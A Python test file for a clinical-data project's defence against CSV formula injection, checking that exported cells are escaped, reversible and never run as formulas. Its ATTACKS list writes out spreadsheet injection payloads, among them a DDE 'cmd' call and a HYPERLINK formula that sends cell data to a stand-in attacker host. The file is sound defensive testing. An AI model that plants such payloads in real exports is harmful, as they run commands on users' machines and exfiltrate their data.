"""No cell that we hand out is run by a spreadsheet, and each can be read back as it was."""

import csv
import io

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from remnant.service.texts.spreadsheet import csv_bytes, csv_of_table
from remnant.store.folder import write_tables
from remnant.study.formulas import defused, defused_table, restored

ATTACKS = [
    "=cmd|' /C calc'!A0", "+cmd",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\ufeff=1",
    '"=1', "＝1+1",
    "＠x", "－x", "＋x", '=HYPERLINK("http://evil.example?"&A1)', "\u200b=1", "a;=1+1", "a\t=1",
    "a|=1", "a\n=1", '";=1', "+49 151 2345", "-x", "-",
]  # fmt: skip
PLAIN = [
    "P1", "-5", "+1.5", "1e-5", "-1.5e+3", ".5", "-.5", "5%", "46,XX,del(5)(q13q33)[17]", "p.R248W",
    "", "a-b", "a=b", "2026-01-31", "<0.5", "'quoted'", "del(5q)-",
]  # fmt: skip


def runs(cell):
    """Whether a spreadsheet, with commas or with semicolons, could take any part of a cell for a formula."""
    for part in [
        cell,
        *cell.replace("\t", ";").replace("|", ";").replace("\n", ";").replace("\r", ";").split(";"),
    ]:
        bare = part.lstrip(' \t\r\n"\u200b\ufeff\x00')
        if bare[:1] and bare[0] in "=+-@＝＋－＠":
            try:
                float(part.rstrip("%"))
            except ValueError:
                return True
    return False


@pytest.mark.parametrize("cell", ATTACKS)
def test_a_cell_that_a_spreadsheet_would_run_is_text(cell):
    assert runs(cell)
    assert not runs(defused(cell))
    assert restored(defused(cell)) == cell


@pytest.mark.parametrize("cell", PLAIN)
def test_numbers_names_and_karyotypes_are_left_alone(cell):
    assert defused(cell) == cell == restored(cell)


@given(st.text(st.sampled_from("=+-@＝'\"; \t\r\n|1a.,e%") | st.characters(codec="utf-8"), max_size=25))
def test_every_text_comes_back_as_it_was_and_none_runs(text):
    assert restored(defused(text)) == text
    assert not runs(defused(text))


@given(
    st.text(st.sampled_from("=+-@'; \ta1"), max_size=15), st.text(st.sampled_from("=+-@'; \ta1"), max_size=15)
)
def test_two_texts_never_become_one(one, other):
    assert (defused(one) == defused(other)) == (one == other)


@given(st.floats() | st.integers())
def test_a_number_stays_a_number(number):
    if number == number and abs(number) != float("inf"):
        assert defused(repr(number)) == repr(number)


@pytest.mark.parametrize(
    "text", ["\n" * 200_000, ";" * 200_000, "'" * 200_000, ";'" * 100_000, '"' * 200_000]
)
def test_a_long_text_takes_no_longer_than_reading_it(text):
    """A pattern that went back would take hours."""
    assert restored(defused(text)) == text


def test_tables_of_results_hold_no_formula_and_parquet_holds_the_text(tmp_path):
    table = pl.DataFrame({"patient_id": ["=cmd()", "P2"], "day": [-28, 3], "note": [None, "+x"]})
    write_tables(tmp_path, {"courses": table})
    rows = list(csv.reader(io.StringIO((tmp_path / "courses.csv").read_text(), newline="")))
    assert rows == [["patient_id", "day", "note"], ["'=cmd()", "-28", ""], ["P2", "3", "'+x"]]
    assert pl.read_parquet(tmp_path / "courses.parquet").equals(table)
    assert [restored(cell) for cell in rows[1]] == ["=cmd()", "-28", ""]


def test_a_table_without_formulas_is_written_as_before(tmp_path):
    table = pl.DataFrame({"a": ["x", None], "b": [1.5, -2.0], "c": [True, None]})
    assert defused_table(table).equals(table)
    assert csv_of_table(table) == table.write_csv().encode()


def test_a_header_is_a_cell_too():
    table = pl.DataFrame({"=1": [1], "b": ["@x"]})
    assert csv_of_table(table) == b"'=1,b\n1,'@x\n"
    assert csv_bytes(["=1", "b"], [[1, "@x"], [None, -3.5]]) == b"'=1,b\n1,'@x\n,-3.5\n"


def test_figures_hand_out_no_formula(tmp_path):
    from remnant.figures.export import _write_tables

    _write_tables({"data": [{"patient": "=cmd()", "day": -3, "low": None}]}, tmp_path, "01")
    assert (tmp_path / "01.data.csv").read_text().splitlines() == ["patient,day,low", "'=cmd(),-3,"]


@given(
    st.lists(
        st.tuples(
            st.text(st.characters(codec="utf-8", exclude_characters="\r\x00"), max_size=12), st.integers()
        ),
        max_size=6,
    )
)
def test_rows_come_back_through_csv(rows):
    read = list(csv.reader(io.StringIO(csv_bytes(["a", "b"], rows).decode(), newline="")))
    assert [(restored(a), int(b)) for a, b in read[1:]] == rows
